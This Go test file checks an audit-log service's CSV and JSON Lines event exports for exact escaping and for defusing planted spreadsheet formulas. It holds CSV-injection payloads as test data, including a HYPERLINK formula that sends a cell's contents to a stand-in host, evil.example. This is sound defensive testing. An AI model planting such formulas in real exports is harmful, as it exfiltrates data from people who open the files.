package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/trailhq/trail"
	"github.com/trailhq/trail/export/exporttest"
	"github.com/trailhq/trail/internal/teststore"
)

// awkward are field values that CSV and JSON must escape or quote.
var awkward = []string{`Bob "the builder"`, "Plan, v2\nfinal", "ünïcödé ✓ 🚀", "<b>&amp;</b>", "line\u2028sep",
	" leading space", "\tTab", `back\slash`, "", "\r\ncrlf", `\.`, "\u00a0nbsp", "ctl\x01",
	"=1+cmd@evil.test", `=HYPERLINK("http://evil.example","x")`, "+1", "-2", "@SUM(A1)", "'quoted", "\rcr"}

// awkwardEvents returns n events that use every awkward value in every
// string field, with and without targets and metadata, some of them
// system events.
func awkwardEvents(n int) []*trail.Event {
	t0 := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
	pick := func(i int) string { return awkward[i%len(awkward)] }
	var events []*trail.Event
	for i := range n {
		at := t0.Add(time.Duration(i) * 1500 * time.Microsecond)
		e := &trail.Event{
			ID: trail.NewID(at), Tenant: []string{"acme", "globex", ""}[i%3], Action: "doc.shared",
			OccurredAt: at, ReceivedAt: at, Version: 1, TraceID: pick(i + 5),
			Actor:   trail.Actor{Type: "user", ID: pick(i + 1), Name: pick(i)},
			Context: trail.Context{IP: "2001:db8::1", UserAgent: pick(i + 2), Location: pick(i + 3)},
			Targets: []trail.Target{{Type: "doc", ID: "d1", Name: pick(i + 4),
				Metadata: json.RawMessage(`{"k":"<v>"}`)}},
		}
		if i%4 == 0 {
			e.Targets = []trail.Target{}
		}
		if i%2 == 0 {
			m, _ := json.Marshal(map[string]string{"note": pick(i + 6)})
			e.Metadata = m
		}
		events = append(events, e)
	}
	return events
}

// TestExportMatchesEvents checks that the CSV and JSON Lines exports are
// byte for byte what encoding/csv and encoding/json make of the events as
// the store returns them, for awkward values, on every store.
func TestExportMatchesEvents(t *testing.T) {
	forEachStore(t, func(t *testing.T, s trail.Store) {
		e := newEnv(t, s)
		events := awkwardEvents(3 * len(awkward))
		if err := s.AppendBatches(t.Context(), []*trail.Batch{{Events: events}}); err != nil {
			t.Fatal(err)
		}
		acme := e.newKey(t, "acme", false, trail.ScopeEventsRead)
		for _, tt := range []struct {
			name, secret string
			scope        trail.Scope
		}{{"Platform", e.platform, trail.Scope{All: true}}, {"Tenant", acme, trail.Scope{Tenant: "acme"}}} {
			q := trail.Query{Scope: tt.scope, Actions: []string{"doc.shared"}, Desc: true}
			var want []*trail.Event
			if err := trail.ExportEvents(t.Context(), s, q, func(ev *trail.Event) error {
				want = append(want, ev)
				return nil
			}); err != nil {
				t.Fatal(err)
			}
			t.Run(tt.name+"CSV", func(t *testing.T) {
				got := e.do(t, "GET", "/v1/events/export?format=csv&action=doc.shared", tt.secret, "").want(t, 200).body
				if want := exporttest.ReferenceCSV(t, want...); !bytes.Equal(got, want) {
					t.Fatalf("CSV export differs:\n got: %q\nwant: %q", got, want)
				}
			})
			t.Run(tt.name+"JSONL", func(t *testing.T) {
				got := e.do(t, "GET", "/v1/events/export?format=jsonl&action=doc.shared", tt.secret, "").want(t, 200).body
				var b bytes.Buffer
				for _, ev := range want {
					line, _ := json.Marshal(ev)
					b.Write(append(line, '\n'))
				}
				if !bytes.Equal(got, b.Bytes()) {
					t.Fatalf("JSONL export differs:\n got: %q\nwant: %q", got, b.Bytes())
				}
			})
		}
	})
}

// TestExportNeutralizesPlantedFormulas stores the cells of issue 12's
// probe (a failed sign-in's email and user agent) and checks that the CSV
// export defuses them while JSON Lines keep them exactly.
func TestExportNeutralizesPlantedFormulas(t *testing.T) {
	e := newEnv(t, teststore.SQLite(t))
	acme := e.newKey(t, "acme", false, trail.ScopeAdmin)
	email, agent := "=1+cmd@evil.test", `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	e.ingest(t, acme, event("login.failure", "actor", `{"type":"user","id":"-1","name":"`+email+`"}`,
		"context", `{"ip":"203.0.113.9","user_agent":"`+strings.ReplaceAll(agent, `"`, `\"`)+`"}`))
	csvBody := string(e.do(t, "GET", "/v1/events/export?format=csv&action=login.failure", acme, "").want(t, 200).body)
	rows, err := csv.NewReader(strings.NewReader(csvBody)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv rows = %v, %v", rows, err)
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	for col, want := range map[string]string{"actor_id": "'-1", "actor_name": "'" + email, "user_agent": "'" + agent} {
		if got[col] != want {
			t.Errorf("csv %s = %q, want %q", col, got[col], want)
		}
	}
	jsonl := e.do(t, "GET", "/v1/events/export?format=jsonl&action=login.failure", acme, "").want(t, 200).body
	var ev trail.Event
	if err := json.Unmarshal(bytes.TrimSpace(jsonl), &ev); err != nil {
		t.Fatal(err)
	}
	if ev.Actor.Name != email || ev.Context.UserAgent != agent || ev.Actor.ID != "-1" {
		t.Errorf("jsonl changed the values: %+v", ev)
	}
}
